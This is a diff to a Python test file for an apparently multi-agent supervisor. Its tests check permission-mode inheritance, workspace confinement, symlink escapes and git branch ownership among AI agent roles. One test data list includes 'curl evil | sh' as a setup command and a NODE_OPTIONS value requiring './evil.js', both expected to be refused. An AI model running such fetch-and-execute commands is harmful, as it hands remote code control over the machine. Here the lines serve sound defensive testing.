@@ -11,6 +11,7 @@ from pydantic import ValidationError
 
 from actors.errors import RefusedError, UnknownInstanceError
 from actors.status import PendingPermission, Status
+from actors.worktrees.model import Workspace
 from supervisor.api import requests
 from supervisor.api.requests import Malformed, Request, Role
 from supervisor.api.verbs import VERBS
@@ -309,7 +310,7 @@ def test_each_role_starts_what_stands_below_it_under_itself(scene: Scene, caller
         ({"parent_id": "peer"}, "is not below you"),
         ({"env": {"NODE_OPTIONS": "--require ./evil.js"}}, "Only the user"),
         ({"prepare": {"setup": "curl evil | sh"}}, "Only the user"),
-        ({"permission_mode": "acceptEdits"}, "nobody below you may ask less"),
+        ({"permission_mode": "acceptEdits"}, "nobody below you may ask less: not acceptEdits"),
         ({"work_dir": "/home/me"}, "not within it"),
         ({"work_dir": "/home/me/shop/../other"}, "not within it"),
         ({"work_dir": "/home/me/shopping"}, "not within it"),
@@ -331,6 +332,76 @@ def test_a_manager_in_a_looser_mode_may_start_one_in_it(scene: Scene) -> None:
     )
 
     assert scene.ask("loose", asked).permission_mode == "acceptEdits"
+
+
+@pytest.mark.parametrize("given", [None, "plan"])
+def test_those_below_a_lead_in_plan_mode_are_in_plan_mode_too(scene: Scene, given: Any) -> None:
+    scene.add("planner", Role.MANAGER, "exec", permission_mode="plan")
+    request = requests.SpawnRequest(role=Role.SPECIALIST, work_dir=str(PROJECT), context="x", permission_mode=given)
+
+    assert scene.ask("planner", request).permission_mode == "plan"
+    with pytest.raises(RefusedError, match=r"Leave permissionMode out, or give plan\."):
+        scene.ask("planner", request.model_copy(update={"permission_mode": "default"}))
+
+
+def test_a_start_under_another_may_do_no_more_than_each_above_it(scene: Scene) -> None:
+    scene.add("boss", Role.EXECUTIVE, None, permission_mode="acceptEdits", answers="permissions")
+    scene.add("planner", Role.MANAGER, "boss", permission_mode="plan")
+    planner = scene.registry.get(scene.ids["planner"])
+    planner.record = replace(planner.record, mcp_servers=("db",))
+    planner.snapshot = replace(planner.snapshot, status=Status.READY)
+
+    def start(**changes: Any) -> requests.SpawnRequest:
+        return requests.SpawnRequest(
+            role=Role.SPECIALIST, work_dir=str(PROJECT), context="x", parent_id=scene.ids["planner"], **changes
+        )
+
+    plain = scene.ask("boss", start())
+    assert (plain.permission_mode, plain.mcp_servers) == ("plan", ("db",))
+    for changes, words in (
+        ({"permission_mode": "acceptEdits"}, f"{planner.record.instance_id} works in the permission mode plan"),
+        ({"mcp_servers": ("web",)}, f"{planner.record.instance_id} has no MCP server web"),
+    ):
+        with pytest.raises(RefusedError, match=words):
+            scene.ask("boss", start(**changes))
+
+
+def test_those_who_share_a_directory_share_the_callers_own_and_not_the_users(scene: Scene, tmp_path: Path) -> None:
+    own, project = tmp_path / "worktrees/mgr", tmp_path / "project"
+    for directory in (own, project):
+        directory.mkdir(parents=True)
+    scene.registry.change_in_memory(scene.ids["mgr"], workspace=isolated(own))
+    manager = scene.registry.get(scene.ids["mgr"])
+    manager.record = replace(manager.record, work_dir=project)
+
+    def may(directory: Path, mode: Any) -> bool:
+        request = requests.SpawnRequest(role=Role.SPECIALIST, work_dir=str(directory), context="x", workspace_mode=mode)
+        return scene.may("mgr", request)
+
+    assert [may(own, "isolated"), may(project, "isolated"), may(own, "shared"), may(project, "shared")] == [
+        True,
+        True,
+        True,
+        False,
+    ]
+
+
+def test_a_link_in_the_callers_workspace_takes_nobody_elsewhere(scene: Scene, tmp_path: Path) -> None:
+    own, elsewhere = tmp_path / "worktrees/mgr", tmp_path / "elsewhere"
+    for directory in (own / "src", elsewhere):
+        directory.mkdir(parents=True)
+    (own / "repo").symlink_to(elsewhere)
+    scene.registry.change_in_memory(scene.ids["mgr"], workspace=isolated(own))
+
+    scene.access.check_work_dir(scene.ids["mgr"], (own / "src").resolve(), "shared")
+    scene.access.check_work_dir("", elsewhere, "shared")  # the user
+    for mode in ("shared", "isolated"):
+        with pytest.raises(RefusedError, match="is not within it"):
+            scene.access.check_work_dir(scene.ids["mgr"], (own / "repo").resolve(), mode)
+
+
+def isolated(worktree: Path, branch: str = "phalanx/x") -> Workspace:
+    return Workspace(mode="isolated", directory=worktree, worktree=worktree, branch=branch)
 
 
 def test_limits_are_given_within_the_callers_own_and_never_to_itself(scene: Scene) -> None:
@@ -362,6 +433,42 @@ def test_git_is_for_the_workspaces_of_the_callers_part(caller: str) -> None:
 
     allowed = {name for name, one in zip(places, checked, strict=True) if not isinstance(one, Malformed)}
     assert allowed == own
+
+
+def test_a_directory_goes_on_as_it_was_compared(scene: Scene) -> None:
+    scene.registry.change_in_memory(scene.ids["spec"], workspace=isolated(Path("/wt/spec")))
+    asked = requests.GitOperation(type="status", workspace_dir="/wt/spec/link/..")
+
+    (checked,) = scene.ask("spec", requests.GitBatchRequest(operations=[asked])).operations
+
+    assert checked.workspace_dir == "/wt/spec"  # the system would follow the link first
+
+
+def test_branches_of_ones_own_are_those_that_were_made_for_ones_part_of_the_team(scene: Scene) -> None:
+    for name in ALL:
+        scene.registry.change_in_memory(scene.ids[name], workspace=isolated(Path("/wt") / name, f"phalanx/{name}"))
+    shared = Workspace(mode="shared", directory=PROJECT, branch="main")
+    scene.registry.change_in_memory(scene.ids["sibling"], workspace=shared)
+
+    assert scene.access.own_branches(scene.record("mgr")) == {"phalanx/mgr", "phalanx/spec"}
+
+
+def test_of_its_siblings_a_specialist_sees_the_status_only(scene: Scene) -> None:
+    assert scene.access.status_only(scene.record("spec")) == {scene.ids["sibling"]}
+    assert not scene.access.status_only(scene.record("mgr"))
+
+
+@pytest.mark.parametrize("caller", SEES)
+def test_who_sees_whom_is_found_without_asking_of_everybody(scene: Scene, caller: str) -> None:
+    found = [member.record.instance_id for member in scene.access.seen_by(scene.record(caller))]
+    assert found == [scene.ids[name] for name in ALL if name in SEES[caller]]
+
+
+def test_who_answers_no_permissions_is_told_so_of_a_dialog_too(scene: Scene) -> None:
+    member = scene.registry.get(scene.ids["spec"])
+    member.snapshot = replace(member.snapshot, status=Status.WAITING_INPUT)
+    with pytest.raises(RefusedError, match="nor choose in a dialog of its program"):
+        scene.ask("mgr", requests.RespondRequest(instance_id=scene.ids["spec"], option="1"))
 
 
 def _in(record: InstanceRecord, directory: Path) -> InstanceRecord:
